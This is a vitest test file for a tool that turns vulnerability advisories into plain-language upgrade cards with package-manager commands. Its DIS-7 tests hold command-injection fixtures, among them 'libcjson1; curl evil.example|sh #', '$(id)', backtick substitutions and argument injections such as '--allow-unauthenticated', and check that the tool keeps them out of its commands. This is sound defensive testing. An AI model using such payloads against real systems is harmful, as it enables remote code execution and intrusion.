import type { Match } from '@breakwater/exposure';
import type { OsvRecord } from '@breakwater/formats/osv';
import type { Digest, Id, Instant } from '@breakwater/kernel';
import { describe, expect, test } from 'vitest';
import { makeCard } from './card.ts';

const record: OsvRecord = {
  id: 'x_BW-2026-00000000',
  modified: '2026-03-01T08:00:00.000Z',
  summary: 'A crafted document reads past its end',
};
const due = { dueAt: '2026-03-15T08:00:00.000Z' as Instant, because: 'BOD 26-04, tier 2: 14 days' };

function match(ecosystem: string, name: string, installedAs?: string, fixed = '1.2'): Match {
  const component = { ecosystem, name, version: '1.0', path: null };
  const given = installedAs === undefined ? component : { ...component, installedAs };
  const reason = { how: 'version-in-range', end: { kind: 'fixed', version: fixed } };
  // Of a reason, the card reads these parts alone.
  return { inventoryId: 'inventory', component: given, reason } as unknown as Match;
}

function card(
  matches: readonly Match[],
  patch: Parameters<typeof makeCard>[0]['patch'] = null,
  format = 'package-lock',
) {
  return makeCard({ record, matches, inventory: 'the reception desk', format, due, patch });
}

describe('DIS-6 everything an operator must do is on one card, in plain words', () => {
  test('what, where, why and until when', () => {
    const made = card([match('Debian:12', 'cjson', 'libcjson1')]);
    expect(made).toMatchObject({
      headline: 'Update libcjson1 on the reception desk',
      why: 'A crafted document reads past its end',
      dueAt: due.dueAt,
      dueBecause: due.because,
      advisory: record.id,
      patch: null,
    });
    expect(made.where).toMatchObject([{ component: 'libcjson1', version: '1.0', fixed: '1.2' }]);
  });

  test('Debian: the exact command names what is installed, each package once', () => {
    const made = card([
      match('Debian:12', 'cjson', 'libcjson1'),
      match('Debian:12', 'cjson', 'libcjson-dev'),
      match('Debian:12', 'cjson', 'libcjson1'),
    ]);
    expect(made.headline).toBe('Update libcjson1 and libcjson-dev on the reception desk');
    expect(made.steps.map((s) => s.command)).toEqual([
      null,
      'sudo apt-get update',
      'sudo apt-get install --only-upgrade libcjson-dev libcjson1',
      'dpkg-query -W libcjson-dev libcjson1',
      null,
      null,
    ]);
  });

  test('Debian: each package is held to the version that fixes it, not to that of another', () => {
    const check = card([
      match('Debian:12', 'cjson', 'libcjson1', '1.7.15-1+deb12u4'),
      match('Debian:12', 'zlib', 'zlib1g', '1:1.2.13'),
    ]).steps.find((step) => step.command?.startsWith('dpkg-query'));
    expect(check?.text).toBe(
      'Check what is installed now. It must be libcjson1 1.7.15-1+deb12u4 or later and zlib1g 1:1.2.13 or later.',
    );
  });

  test('what to do where it does not help is said, and whom to ask', () => {
    expect(card([match('Debian:12', 'cjson')]).steps.at(-1)?.text).toMatch(
      /^If the version is still older, .*ask whoever looks after it/,
    );
  });

  test('npm: two lines of versions with a fix each are not forced to one of them', () => {
    const made = card([
      match('npm', 'flat', undefined, '4.3.0'),
      match('npm', 'flat', undefined, '5.0.1'),
    ]);
    expect(made.steps.find((step) => step.command === 'npm ls flat')?.text).toBe(
      'Check every line. Where it was 1.0, it must be 4.3.0 or later. Where it was 1.0, it must be 5.0.1 or later.',
    );
    expect(made.steps.filter((step) => step.command?.includes('overrides'))).toEqual([]);
  });

  test('npm: update, check, and what to do when another package holds it back', () => {
    expect(card([match('npm', 'ini')]).steps.map((s) => s.command)).toEqual([
      null,
      'npm update ini',
      'npm ls ini',
      'npm pkg set "overrides[ini]=>=1.2" && npm install',
      null,
    ]);
  });

  test.each([
    [
      'yarn-lock',
      'yarn upgrade ini || yarn up --recursive ini',
      'yarn why ini',
      'npm pkg set "resolutions[ini]=>=1.2" && yarn install',
    ],
    ['pnpm-lock', 'pnpm update --recursive ini', 'pnpm why --recursive ini', null],
    ['bun-lock', 'bun update ini', 'bun why ini', null],
  ])('packages of npm in a %s: by the tool that wrote it', (format, update, look, force) => {
    const commands = card([match('npm', 'ini')], null, format).steps.map((s) => s.command);
    expect(commands).toEqual([null, update, look, force, null]);
  });

  test('each of several npm packages gets commands of its own', () => {
    const made = card([match('npm', 'ini'), match('npm', 'qs'), match('npm', 'ini')]);
    const updates = made.steps.filter((s) => s.command?.startsWith('npm update'));
    expect(updates.map((s) => s.command)).toEqual(['npm update ini', 'npm update qs']);
  });

  test.each([
    ['PyPI', 'requests', 'pip install "requests>=1.2"', 'pip show requests'],
    [
      'Go',
      'golang.org/x/net',
      'go get golang.org/x/net@v1.2 && go mod tidy',
      'go list -m golang.org/x/net',
    ],
    ['crates.io', 'time', 'cargo update --package time', 'cargo tree --invert time'],
    ['RubyGems', 'rack', 'bundle update --conservative rack', 'bundle info rack'],
    [
      'NuGet',
      'Newtonsoft.Json',
      'dotnet add package Newtonsoft.Json --version 1.2',
      'dotnet list package --include-transitive',
    ],
    [
      'Packagist',
      'symfony/yaml',
      'composer update symfony/yaml --with-dependencies',
      'composer show symfony/yaml',
    ],
    ['Alpine:v3.20', 'musl', 'apk add --update-cache --upgrade musl', 'apk list --installed musl'],
    ['Rocky Linux:9', 'bash', 'sudo dnf upgrade --refresh bash', 'rpm -q bash'],
  ])('%s: where, the update, a look, and what then', (ecosystem, name, update, look) => {
    const commands = card([match(ecosystem, name)]).steps.map((step) => step.command);
    expect(commands).toEqual([null, update, look, null]);
  });

  test('Maven, whose projects name versions each in its own way: what it must become', () => {
    const [step, ...more] = card([match('Maven', 'org.a:b')]).steps;
    expect(step).toEqual({ text: 'It must be org.a:b 1.2 or later.', command: null });
    expect(more).toEqual([]);
  });

  test('the verified patch, where one is published', () => {
    const patch = {
      id: 'patch_1' as Id<'patch'>, // spelled as kernel does
      sha256: `sha256:${'0'.repeat(64)}` as Digest,
      attestation: null,
    };
    expect(card([match('Debian:12', 'cjson')], patch).patch).toEqual(patch);
  });
});

describe('DIS-7 no text from outside ends up inside a command', () => {
  const commandsFor = (...matches: Match[]) =>
    card(matches)
      .steps.map((step) => step.command ?? '')
      .join('\n');

  test.each([
    ['Debian:12', 'cjson', 'libcjson1; curl evil.example|sh #'],
    ['Debian:12', 'cjson', '--allow-unauthenticated'],
    ['Debian:12', 'cjson', 'a$(id)'],
    ['Debian:12', 'cjson', 'a\nb'],
    ['npm', 'ini; id', undefined],
    ['npm', '@evil/--global', undefined],
    ['npm', '`id`', undefined],
    ['npm', 'a"b', undefined],
    ['npm', 'ini\n', undefined],
    ['PyPI', 'a;id', undefined],
    ['PyPI', '--user', undefined],
    ['Go', 'example.com/$(id)', undefined],
    ['Packagist', 'a/b/c d', undefined],
    ['Alpine', 'musl', 'musl;id'],
    ['Red Hat', '-x', undefined],
  ] as const)('none of %s that a terminal would obey: %s as %s', (ecosystem, name, installedAs) => {
    const odd = match(ecosystem, name, installedAs);
    const commands = commandsFor(odd, match('Debian:12', 'cjson', 'libcjson1'));
    expect(commands).not.toContain(installedAs ?? name);
    expect(commands).toContain('--only-upgrade libcjson1\n');
  });

  test('a version that a terminal would obey is in no command', () => {
    expect(commandsFor(match('npm', 'ini', undefined, '1.2$(id)'))).not.toContain('$(id)');
  });

  test('npm: a dot in a name stays part of the name', () => {
    expect(commandsFor(match('npm', 'lodash.template'))).toContain(
      '"overrides[lodash.template]=>=1.2"',
    );
  });

  test.each([
    ['npm', '@babel/core'],
    ['npm', 'JSONStream'],
    ['npm', 'lodash.template'],
    ['Debian:12', 'libstdc++6'],
  ])('an ordinary name of %s does: %s', (ecosystem, name) => {
    expect(commandsFor(match(ecosystem, name))).toContain(` ${name}`);
  });
});
